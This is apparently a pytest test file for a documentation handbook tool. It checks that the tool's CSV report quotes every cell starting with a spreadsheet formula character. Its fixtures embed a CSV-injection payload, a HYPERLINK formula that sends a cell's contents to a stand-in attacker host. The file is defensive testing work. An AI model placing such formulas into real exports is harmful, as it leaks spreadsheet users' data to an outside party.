"""CSV injection: no cell of a CSV the handbook writes starts a spreadsheet formula, whatever field an author fills.

OWASP's list of characters that make Excel, LibreOffice or Google Sheets read a cell as a formula:
= + - @, tab and carriage return. Each is put at the start of every field an author or the role
register controls; each such cell must come out quoted with `'` (shown as text), or not at all."""

import csv
import io
import json

import pytest

from conftest import document, process, project_mkdocs_yml, run_handbook, write_handbook
from handbook.core.reports import csv_bytes

TODAY = "2026-11-21"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://angripare.se/?"&A1)'


def quoted(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a YAML double-quoted scalar, so tab and @ survive


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def rows(tmp_path_factory):
    files, roles = {}, {}
    for i, c in enumerate(DANGEROUS):
        # Every front matter field at once, with an owner that is no role (its id could go into Roll-id).
        name = f"{c}dok{i}.md" if c in "=+-@" else f"dok{i}.md"
        files[f"docs/{name}"] = document(quoted(f"{c}{PAYLOAD}T{i}"), doc_type=quoted(f"{c}typ{i}"),
                                         owner=quoted(f"{c}ägare{i}"), version=quoted(f"{c}1.{i}"),
                                         klassa=quoted(f"{c}2.{i}"), state=quoted(f"{c}tillstånd{i}"),
                                         review_date=quoted(f"{c}2020-01-01"))
        roles[f"roll{i}"] = {"name": f"{c}Roll{i}", "contact": f"{c}kontakt{i}@tallby.se"}
        files[f"processes/p{i}.yml"] = process(f"p{i}", [{"id": "s", "name": "S", "role": f"roll{i}"}], owner=f"roll{i}",
                                               name=f"{c}{PAYLOAD}P{i}", version=f"{c}2.{i}", review_date="2026-01-01")
    root = write_handbook(tmp_path_factory.mktemp("csv") / "h", files, roles=roles,
                          mkdocs_yml=project_mkdocs_yml(site_url=False))
    result = run_handbook(root, "report", "--format", "csv", "-o", str(root / "r.csv"), today=TODAY)
    assert result.returncode == 0, result.stderr
    table = read_csv((root / "r.csv").read_bytes())
    return [dict(zip(table[0], row)) for row in table[1:]]


def test_no_cell_starts_a_formula(rows):
    assert len(rows) == 2 * len(DANGEROUS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
            if cell.startswith("'"):  # quoted only where it had to be
                assert cell[1:].startswith(DANGEROUS), (column, cell)


# The readers strip leading white space (tab and carriage return too) and blank an unknown Klassa code,
# owner or state, so only these reach the CSV as written; the test above covers the rest.
@pytest.mark.parametrize("column, characters", [
    ("Namn", "=+-@"), ("Typ", "=+-@"), ("Version", "=+-@"), ("Ansvarig roll", "=+-@"), ("Kontakt", "=+-@"),
    ("Adress", "-"),  # = + @ are percent-encoded in an address
])
def test_every_field_that_starts_with_a_formula_character_is_quoted(rows, column, characters):
    starts = [row[column][1] for row in rows if row[column].startswith("'")]
    assert sorted(starts) == sorted(characters * (2 if column in ("Namn", "Version") else 1))


def test_the_one_writer_of_csv_quotes_every_cell_and_every_character():
    cells = [f"{c}1+1" for c in DANGEROUS]
    assert read_csv(csv_bytes([cells, [1, "ok", "a=1", " =1"]])) == [[f"'{c}" for c in cells], ["1", "ok", "a=1", " =1"]]
